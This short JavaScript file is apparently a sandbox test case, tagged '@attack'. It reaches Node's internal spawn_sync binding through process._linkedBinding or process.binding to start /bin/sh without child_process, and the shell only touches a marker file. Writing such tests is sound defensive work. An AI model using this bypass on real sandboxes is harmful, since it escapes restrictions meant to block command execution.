/* @attack {"title": "process._linkedBinding / process.binding('spawn_sync') to start a shell without child_process"} */
let spawnSync;
try {
  spawnSync = process._linkedBinding('spawn_sync');
} catch {
  spawnSync = process.binding('spawn_sync');
}
spawnSync.spawn({ file: '/bin/sh', args: ['sh', '-c', 'touch "$TMP_MARKER"'], envPairs: [`TMP_MARKER=${process.env.TMP_MARKER}`], stdio: [] });
